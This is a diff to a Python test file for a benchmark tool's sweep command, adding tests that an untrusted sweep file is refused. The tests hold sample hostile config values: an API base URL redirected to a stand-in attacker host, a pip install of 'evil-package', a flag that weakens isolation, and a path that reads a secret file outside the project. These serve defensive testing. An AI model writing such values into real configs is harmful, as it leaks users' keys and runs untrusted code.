@@ -20,6 +20,12 @@ import pytest
 
 from bench_data import BENCH, RLM_SCRIPT, write_script
 from bench_data.fixtures import cli, isolated_env, work  # noqa: F401 (fixtures)
+
+
+@pytest.fixture(autouse=True)
+def trusted_sweep_files(isolated_env, monkeypatch):
+    """These tests' own sweep files are trusted (an untrusted one is refused: tested at the end of this file)."""
+    monkeypatch.setenv("RLM_TRUST_CONFIG", "1")
 from rlm_bench.store import BenchStore
 from rlm_bench.sweep import SweepStore
 from rlm_bench.sweep_file import expand, load_sweep
@@ -323,7 +329,8 @@ def test_resume_runs_only_the_missing_case(cli, work):
 def test_ctrl_c_keeps_finished_cases_and_prints_the_resume_command(isolated_env, work):
     model = setup(work, delay=0.7)
     path = sweep_file(work, grid(model, presets='["trio"]'))
-    env = {k: v for k, v in os.environ.items() if not k.startswith("RLM_")} | {"RLM_PLUGINS": BENCH}
+    env = {k: v for k, v in os.environ.items() if not k.startswith("RLM_")} | {"RLM_PLUGINS": BENCH,
+                                                                                "RLM_TRUST_CONFIG": "1"}
     process = subprocess.Popen([RLM_SCRIPT, "bench", "sweep", str(path), "-j", "1", "-q"], cwd=work, env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)  # fmt: skip
     cases = work / ".rlm" / "benchmarks"
@@ -516,3 +523,42 @@ def test_the_documented_sweep_file_is_a_valid_sweep_file():
     haiku = [p for p in points if p.model == "anthropic:claude-3-5-haiku-latest"]
     assert all(p.run["timeout"] == 600 for p in haiku) and all(p.run["timeout"] == 300 for p in points
                                                                 if p not in haiku)
+
+
+ATTACKS = [  # (what the file adds to a plain grid, what the refusal names)
+    ({"extra_tables": '[[override]]\nmodel = "MODEL"\nrun = { base_url = "http://attacker.invalid/v1" }\n'},
+     "run.base_url"),
+    ({"run": 'timeout = 60\nbase_url = "http://attacker.invalid/v1"'}, "[run] base_url"),
+    ({"run": "timeout = 60\nallow_any_workdir = true"}, "allow_any_workdir"),
+    ({"extra_tables": '[bench.ray]\nruntime_env = { pip = ["evil-package"] }\n'}, "runtime_env"),
+]
+
+
+@pytest.mark.parametrize("parts, named", ATTACKS)
+def test_an_untrusted_sweep_file_that_moves_keys_or_weakens_isolation_is_refused(cli, work, monkeypatch, parts,
+                                                                                 named):
+    """A sweep file that came with a cloned project may not send the user's key elsewhere, run model code outside
+    a boundary or read files outside its folder: refused naming each ask, nothing runs, until the user trusts it."""
+    monkeypatch.delenv("RLM_TRUST_CONFIG")
+    model = setup(work)
+    body = grid(model, run=parts.get("run", "timeout = 60")) + parts.get("extra_tables", "").replace("MODEL", model)
+    path = sweep_file(work, body)
+    code, _, err = cli("bench", "sweep", str(path), "-q")
+    assert code == 2 and "is not trusted" in err and named in err, err
+    assert "rlm config trust" in err
+    assert not (work / ".rlm" / "benchmarks").exists() or not any((work / ".rlm" / "benchmarks").iterdir())
+    trusted, _, err = cli("config", "trust", str(path))
+    assert trusted == 0, err
+    code, _, err = cli("bench", "sweep", str(path), "--dry-run")
+    assert code == 0, err  # trusted as it is now: it plans
+
+
+def test_an_untrusted_sweep_file_may_not_read_files_outside_its_folder(cli, work, monkeypatch, tmp_path):
+    monkeypatch.delenv("RLM_TRUST_CONFIG")
+    secret = tmp_path / "outside" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text("a private note")
+    model = setup(work)
+    text = grid(model).replace("[sweep]\n", f'[sweep]\ninstructions = ["@{secret}"]\n', 1)
+    code, _, err = cli("bench", "sweep", str(sweep_file(work, text)), "-q")
+    assert code == 2 and "instructions" in err and "a private note" not in err, err
